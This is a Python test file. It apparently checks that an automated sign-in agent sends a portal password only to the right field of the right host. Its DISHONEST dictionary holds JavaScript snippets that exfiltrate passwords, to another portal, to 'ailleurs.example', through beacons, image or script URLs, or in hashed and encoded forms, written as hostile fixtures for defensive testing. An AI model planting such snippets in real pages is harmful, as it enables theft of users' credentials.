"""The password of a sign-in goes to the right field of the right host, once, or nothing is sent: so says the server.

Forms are made up: how their boxes are named and found, when they are drawn, what their scripts do with what is typed,
where and how they send it. What is honest must get through; from what is not, nothing may reach the portal.
"""

import json
import random
import re
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from html import escape, unescape
from typing import Any
from urllib.parse import parse_qsl, unquote_plus

import pytest
from aiohttp import web

from tests.few import few

from .portal import CHORUS, PIGP, OtherPortal, document, menu, refused
from .visitor import Visitor, Walked

SIGN_IN = "/portail/accueilIAM.pl"
CHECK = "check-technical-password"

NAMES = [("identifiant", "secret"), ("user", "password"), ("login", "mdp"), ("j_username", "j_password"), ("", "")]
LABELS: list[Callable[[str, str, str], str]] = [
    lambda label, box, key: f"<label for={key}>{label}</label> {box.replace('<input', f'<input id={key}')}",
    lambda label, box, _: f"<label>{label} : {box}</label>",
    lambda label, box, _: box.replace("<input", f"<input aria-label='{label}'"),
    lambda label, box, _: box.replace("<input", f"<input placeholder='{label}'"),
    lambda label, box, key: f"<span id=l{key}>{label}</span> {box.replace('<input', f'<input aria-labelledby=l{key}')}",
]
HONEST = {
    "form": "",
    "multipart": "form.enctype = 'multipart/form-data'",
    "other-button": "form.querySelector('button').type = 'button'; button.onclick = () => form.submit()",
    "json": "send(() => ['application/json', JSON.stringify({identifiant: user.value, secret: pass.value})])",
    "renamed": "send(() => ['application/json', JSON.stringify({login: user.value, motDePasse: pass.value})])",
    "nested": "send(() => ['application/json', JSON.stringify({credentials: [{u: user.value, p: pass.value}]})])",
    "urlencoded": "send(() => ['application/x-www-form-urlencoded',"
    " new URLSearchParams({login: user.value, motDePasse: pass.value}).toString()])",
    "xml": "send(() => ['text/xml', `<r><u>${user.value}</u><p>${pass.value}</p></r>`])",
    "toggle": "pass.onfocus = () => { pass.type = 'text' }; pass.onblur = () => { pass.type = 'password' }",
    "copies-user": "form.insertAdjacentHTML('beforeend', '<input type=hidden name=trace>');"
    " form.onsubmit = () => { form.trace.value = user.value }",
    "noise": "button.addEventListener('click', () => navigator.sendBeacon('/mesure', 'page=connexion'))",
}
"""Scripts whose sign-in works for a person, and is to work for the robot."""
DISHONEST = {
    "focus-jump": "form.onsubmit = () => { user.value += pass.value; pass.value = '' }",
    "focus-jump-early": "pass.addEventListener('input', () => { user.value += pass.value; })",
    "swapped": "form.onsubmit = () => { [user.value, pass.value] = [pass.value, user.value] }",
    "joined": "send(() => ['application/json', JSON.stringify({auth: user.value + ':' + pass.value})])",
    "copied": "form.insertAdjacentHTML('beforeend', '<input type=hidden name=copie>');"
    " form.onsubmit = () => { form.copie.value = pass.value }",
    "to-search": "form.onsubmit = () => { search.value = pass.value; pass.value = '' };"
    " form.append(search); search.hidden = true",
    "form-to-other-portal": f"form.action = 'https://{CHORUS}/in'",
    "fetch-to-other-portal": f"send(() => ['text/plain', 'secret=' + pass.value], 'https://{CHORUS}/in')",
    "beacon-to-other-portal": f"button.addEventListener('click', () => navigator.sendBeacon('https://{CHORUS}/in',"
    " new URLSearchParams({secret: pass.value})))",
    "undeclared": "form.action = 'https://ailleurs.example/in'",
    "get": "form.method = 'get'",
    "image": "button.addEventListener('click', () => { new Image().src = '/in?' + pass.value })",
    "script": "button.addEventListener('click', () => { const one = document.createElement('script');"
    " one.src = '/in?p=' + pass.value; document.head.append(one) })",
    "hash-fetch": "later(async () => JSON.stringify({login: user.value, h: await hash('SHA-256', pass.value)}))",
    "hash-alone": "later(async () => JSON.stringify({h: await hash('SHA-1', pass.value)}))",
    "hash-joined": "later(async () => JSON.stringify({h: await hash('SHA-512', user.value + ':' + pass.value)}))",
    "salted": "later(async () => JSON.stringify({login: user.value, h: await hash('SHA-256', 'sel' + pass.value)}))",
    "salted-alone": "later(async () => JSON.stringify({h: await hash('SHA-256', Date.now() + pass.value)}))",
    "hash-in-address": "hash('SHA-256', 'x').then(() => 0); button.addEventListener('click', async (event) => {"
    " event.preventDefault(); fetch('/in?h=' + await hash('SHA-256', pass.value)) })",
    "hash-on-input": "pass.addEventListener('input', async () => fetch('/in', {method: 'POST',"
    " body: await hash('SHA-256', pass.value)}))",
    "base64": "later(async () => JSON.stringify({p: btoa(pass.value)}))",
    "hex": "later(async () => [...pass.value].map((one) => one.charCodeAt(0).toString(16)).join(''))",
    "bytes": "later(async () => JSON.stringify([...new TextEncoder().encode(pass.value)]))",
    # Eight signs at least: what is shorter may stand there by chance, and is no part that tells anything.
    "part": "later(async () => JSON.stringify({p: pass.value.slice(-8)}))",
    "capitals": "form.onsubmit = () => { pass.value = pass.value.toUpperCase() }",
    "hashed-field": "button.addEventListener('click', async (event) => { event.preventDefault();"
    " pass.value = await hash('SHA-256', pass.value); form.submit() })",
    "xhr": "button.addEventListener('click', async (event) => { event.preventDefault();"
    " const one = new XMLHttpRequest(); one.open('POST', '/in'); one.send(await hash('SHA-384', pass.value)) })",
    "header": "button.addEventListener('click', (event) => { event.preventDefault();"
    " fetch('/in', {headers: {Authorization: 'Basic ' + btoa(user.value + ':' + pass.value)}}) })",
}
"""Scripts that send a password elsewhere, otherwise or twice."""

SCRIPT = """
const form = document.querySelector('#f'), [user, pass] = form.querySelectorAll('[data-typed]');
const button = form.querySelector('button'), search = document.querySelector('#q');
const hash = async (how, text) => [...new Uint8Array(await crypto.subtle.digest(how, new TextEncoder().encode(text)))]
  .map((one) => one.toString(16).padStart(2, '0')).join('');
const send = (made, to = form.action) => { form.onsubmit = (event) => { event.preventDefault();
  const [type, body] = made(); fetch(to, {method: 'POST', headers: {'Content-Type': type}, body})
    .then((one) => one.text()).then((text) => { document.open(); document.write(text); document.close(); }); } };
const later = (made) => { form.onsubmit = (event) => { event.preventDefault(); made().then((body) =>
  fetch('/in', {method: 'POST', headers: {'Content-Type': 'application/json'}, body})); } };
"""


@dataclass(frozen=True)
class Form:
    """A sign-in page as it was made up."""

    script: str
    names: tuple[str, str] = NAMES[0]
    label: int = 0
    draws: int = 0  # milliseconds until it is drawn
    longest: int = 0
    search: bool = True
    decoy: bool = False
    second: bool = False
    autofocus: bool = False
    wrapped: bool = False

    def page(self, _: OtherPortal) -> str:
        body = self._body()
        script = SCRIPT + {**HONEST, **DISHONEST}[self.script]
        if self.draws:
            body = "<div id=place></div><script>setTimeout(() => { document.querySelector('#place').innerHTML ="
            body += f" {json.dumps(self._body())}; {script} }}, {self.draws})</script>"
            return document(self._head() + body)
        return document(f"{self._head()}{body}<script>{script}</script>")

    def _head(self) -> str:
        return "<h1>Bienvenue sur le Portail de la Gestion Publique</h1>"

    def _body(self) -> str:
        longest = f" maxlength={self.longest}" if self.longest else ""
        user, password = (f" name={escape(name)}" if name else "" for name in self.names)
        focus = " autofocus" if self.autofocus else ""
        boxes = (
            LABELS[self.label]("Identifiant", f"<input data-typed{user}{focus}>", "a")
            + LABELS[self.label]("Mot de passe", f"<input data-typed type=password{password}{longest}>", "b")
        )  # fmt: skip
        hidden = "<input type=hidden name=jeton value=d41d8cd98f00b204e9800998ecf8427e>"
        decoy = "<input name=piege style='display:none' tabindex=-1>" if self.decoy else ""
        inner = f"{hidden}{decoy}{boxes}<button>Connexion</button>"
        inner = f"<table><tr><td><div>{inner}</div></td></tr></table>" if self.wrapped else inner
        search = "<form role=search action='/cherche'>"
        search += "<input id=q name=q type=search aria-label=Rechercher></form>"
        second = "<form action='/abonne' method=post><input name=courriel type=email aria-label=Courriel></form>"
        return (
            (search if self.search else "<input id=q name=q hidden>")
            + f"<form id=f method=post action='{SIGN_IN}'>{inner}</form>"
            + (second if self.second else "")
        )


def forms(count: int, seed: int) -> Iterator[Form]:
    """Each script once, then scripts at random."""
    source = random.Random(seed)
    scripts = [*HONEST, *DISHONEST]
    for number in range(count):
        script = scripts[number] if number < len(scripts) else source.choice(scripts)
        nameless = "send(" in {**HONEST, **DISHONEST}[script]  # a form itself sends no box that has no name
        yield Form(
            script, source.choice(NAMES if nameless else NAMES[:-1]), source.randrange(len(LABELS)),
            source.choice([0, 0, 0, 300]), source.choice([0, 0, 40, 20, 12]), source.random() < 0.5,
            source.random() < 0.5, source.random() < 0.5, source.random() < 0.5, source.random() < 0.5,
        )  # fmt: skip


@dataclass
class Ledger:
    """What reached the portals; `right`: sign-ins with both as they are, each alone in a field of its own."""

    right: int = 0
    wrong: list[str] = field(default_factory=list)


class Doorman:
    """The portals' own record of what they got: whatever is no plain request for a page counts."""

    def __init__(self, portal: OtherPortal) -> None:
        self.portal = portal
        self.ledger = Ledger()
        portal.paths = {f"{PIGP}{SIGN_IN}": self.signs_in, "/in": self.elsewhere, "/mesure": lambda _: "",
                        "/cherche": self.elsewhere, "/abonne": self.elsewhere}  # fmt: skip

    async def signs_in(self, portal: OtherPortal) -> Any:
        values = await self._values()
        user, password = values.count(portal.username), values.count(portal.password_of_pigp)
        inside = sum(portal.password_of_pigp in value for value in values)
        assert portal.request is not None
        if portal.request.method == "POST" and user in (1, 2) and password == inside == 1:
            self.ledger.right += 1
            portal.open.add("pigp")
            return await portal.show("menu")
        self.ledger.wrong.append(f"sign-in {values}")
        return refused(portal)

    def elsewhere(self, portal: OtherPortal) -> Any:
        assert portal.request is not None
        self.ledger.wrong.append(f"{portal.request.method} {portal.request.host}{portal.request.path_qs}")
        return web.Response(text="{}")

    async def _values(self) -> list[str]:
        request = self.portal.request
        assert request is not None
        text, kind = await request.text(), request.content_type
        if kind == "multipart/form-data":
            return [part.partition("\r\n\r\n")[2].rstrip("\r\n") for part in text.split("--" + text[2:30])]
        if kind == "application/json":
            return list(_leaves(json.loads(text)))
        if kind == "text/xml":
            return [unescape(one.rpartition(">")[2]) for one in text.split("</")]
        return [value for _, value in parse_qsl(text, keep_blank_values=True)]


def _leaves(value: Any) -> Iterator[str]:
    if isinstance(value, dict | list):
        for one in value.values() if isinstance(value, dict) else value:
            yield from _leaves(one)
    else:
        yield str(value)


def signs_in(portal: OtherPortal, visitor: Visitor, form: Form) -> tuple[Walked, Ledger]:
    portal.forget()
    doorman = Doorman(portal)
    portal.pages["sign-in"] = form.page
    portal.pages["menu"] = lambda portal: re.sub("<li>.*</li>", "<li>Rien</li>", menu(portal))  # no farther than here
    walked = visitor.walk(CHECK, page=5)
    for line in portal.ledger:  # what stood in no body: addresses, and bodies sent anywhere
        where = unquote_plus(line.detail)
        if portal.password_of_pigp in where and line.kind != "sent":
            doorman.ledger.wrong.append(f"{line.kind} {where}")
    return walked, doorman.ledger


def judge(portal: OtherPortal, visitor: Visitor, form: Form) -> None:
    walked, ledger = signs_in(portal, visitor, form)
    assert ledger.wrong == [], walked.ending.message
    told = repr((walked.ending, walked.events))
    assert portal.password_of_pigp not in told
    if form.script in HONEST:
        assert ledger.right == 1, walked.ending.message
        assert "Chorus Pro" in walked.ending.message  # it is not among the applications: that far it came
        return
    # Where nobody fetches the picture, nothing but the form itself is sent.
    assert walked.ending.outcome == "not-recognised" or ledger.right == 1, walked.ending.message
    assert not portal.open


ALL = list(forms(len(HONEST) + len(DISHONEST), seed=11))


@pytest.mark.parametrize("form", few(ALL, 25), ids=lambda form: form.script)
def test_a_password_goes_to_the_right_field_of_the_right_host_once_or_nothing_is_sent(
    portal: OtherPortal, visitor: Visitor, form: Form
) -> None:
    judge(portal, visitor, form)


@pytest.mark.soak
def test_five_hundred_forms(portal: OtherPortal, visitor: Visitor) -> None:
    for number, form in enumerate(forms(500, seed=7)):
        try:
            judge(portal, visitor, form)
        except AssertionError as error:
            raise AssertionError(f"form {number}: {form}") from error
